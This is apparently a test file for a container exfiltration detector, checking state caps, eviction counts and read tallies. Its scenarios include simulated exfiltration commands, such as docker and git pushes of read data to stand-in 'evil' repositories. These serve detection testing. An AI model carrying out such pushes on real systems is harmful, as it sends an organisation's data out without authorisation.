/** Bounded state: caps hold, evictions are counted, the biggest reads survive pruning. */
import { describe, expect, it } from 'vitest';
import { brief, counterValue, MiB, makeCorrelator, Scenario } from './builder.js';

describe('state caps', () => {
  it('containers beyond maxContainers are evicted and counted; the tracked count stays bounded', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxContainers: 50 } } });
    const s = new Scenario();
    for (let i = 0; i < 500; i++) {
      const c = s.container();
      s.read(s.init(c), '/app/data.bin', 1000).wait(10);
    }
    correlator.ingest(s.events);
    expect(correlator.trackedContainers()).toBe(50);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'container' })).toBe(450);
  });

  it('a container with a pending push is judged before it is evicted, never lost', () => {
    const { correlator } = makeCorrelator({ config: { caps: { maxContainers: 2 } } });
    const s = new Scenario();
    const c = s.container();
    s.exec(c, '/usr/bin/docker', 'push ghcr.io/evil/x:1', { parent: s.init(c) });
    for (let i = 0; i < 5; i++) s.read(s.init(s.container()), '/app/x', 10);
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'docker', destination: 'ghcr.io' },
    ]);
  });

  it('processes beyond maxProcesses are evicted and counted', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 100 } } });
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    for (let i = 0; i < 1000; i++) s.exec(c, '/bin/true', '', { parent: sh });
    correlator.ingest(s.events);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThanOrEqual(
      900,
    );
  });

  it('nodes beyond maxNodes are evicted and counted, a node with a pending push last and its push judged first', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxNodes: 2 } } });
    const s = new Scenario({ source: 'falco' });
    const push = (node: string) => {
      const c = s.container({ node });
      s.exec(c, '/usr/bin/docker', 'push ghcr.io/evil/x:1', { parent: s.init(c) });
    };
    push('host-0');
    // Every event naming another node, as a forged stream can (Falco's hostname is the sender's to set).
    for (let i = 1; i <= 500; i++) {
      const other = s.container({ node: `host-${i}` });
      s.exec(other, '/bin/true', '', { parent: s.init(other) });
      s.wait(1);
    }
    expect(correlator.ingest(s.events)).toEqual([]);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'node' })).toBe(499);
    // Two more nodes with pushes: one of the three nodes waiting goes, its push judged on the way out.
    s.events.length = 0;
    push('host-501');
    push('host-502');
    const judged = brief(correlator.ingest(s.events));
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'node' })).toBe(501);
    const pushAlert = { rule: 'push-without-reads', severity: 'low', tool: 'docker', destination: 'ghcr.io' };
    expect(judged).toEqual([pushAlert]);
    expect(brief(correlator.flush())).toEqual([pushAlert, pushAlert]);
  });

  it('Falco processes (by node and pid) share one maxProcesses budget over all nodes', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 100, maxNodes: 5_000 } } });
    const s = new Scenario({ source: 'falco' });
    for (let i = 0; i < 1000; i++) {
      const c = s.container({ node: `host-${i}` });
      s.exec(c, '/bin/true', '', { parent: s.init(c) });
      s.wait(1);
    }
    correlator.ingest(s.events);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'node' })).toBe(0);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBe(900);
  });

  it('files beyond maxFilesPerContainer leave the top list (smallest first): the biggest reads stay listed with their exact bytes, the distinct count is estimated', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 8 } } });
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.read(sh, '/data/huge.db', 40 * MiB);
    s.readMany(sh, '/data/small', 1000, 1000, 1);
    s.read(sh, '/data/big.tar', 30 * MiB);
    s.read(sh, '/data/huge.db', 2 * MiB);
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
    s.connect(git, '140.82.112.3', 443);
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(alerts).toHaveLength(1);
    // Past ~100 files the count is a sketch's estimate (docs/detection.md): within a few percent.
    expect(Math.abs(alerts[0]!.reads.files - 1002)).toBeLessThanOrEqual(30);
    expect(alerts[0]!.reads.bytes).toBe(72 * MiB + 1_000_000);
    expect(alerts[0]!.reads.top.slice(0, 2)).toEqual([
      { path: '/data/huge.db', bytes: 42 * MiB },
      { path: '/data/big.tar', bytes: 30 * MiB },
    ]);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'file' })).toBe(1002 - 8);
  });

  it('distinct files are counted exactly below the sketch threshold, whatever the top-list cap', () => {
    const { correlator } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 4 } } });
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/app/f', 90, 1000, 1);
    s.readMany(sh, '/srv/app/f', 90, 1000, 1);
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
    s.connect(git, '140.82.112.3', 443);
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(alerts.map((a) => [a.reads.files, a.reads.bytes, a.reads.top.length])).toEqual([[90, 180_000, 4]]);
  });

  it('sockets beyond maxSockets are evicted and counted', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxSockets: 10 } } });
    const s = new Scenario();
    const c = s.container();
    const p = s.exec(c, '/usr/bin/app', '', { parent: s.init(c) });
    for (let i = 0; i < 50; i++) s.connect(p, `10.1.0.${i + 1}`, 5432, { cookie: String(1000 + i) });
    correlator.ingest(s.events);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'socket' })).toBe(40);
  });

  it('idle containers expire after the window (not counted as evictions)', async () => {
    const { correlator, metrics } = makeCorrelator();
    const s = new Scenario();
    for (let i = 0; i < 20; i++) s.read(s.init(s.container()), '/app/x', 10);
    correlator.ingest(s.events);
    expect(correlator.trackedContainers()).toBe(20);
    const later = new Scenario({ startMs: s.now + 2 * 3600_000 });
    later.read(later.init(later.container()), '/app/y', 10);
    correlator.ingest(later.events);
    expect(correlator.trackedContainers()).toBe(1);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'container' })).toBe(0);
  });
});
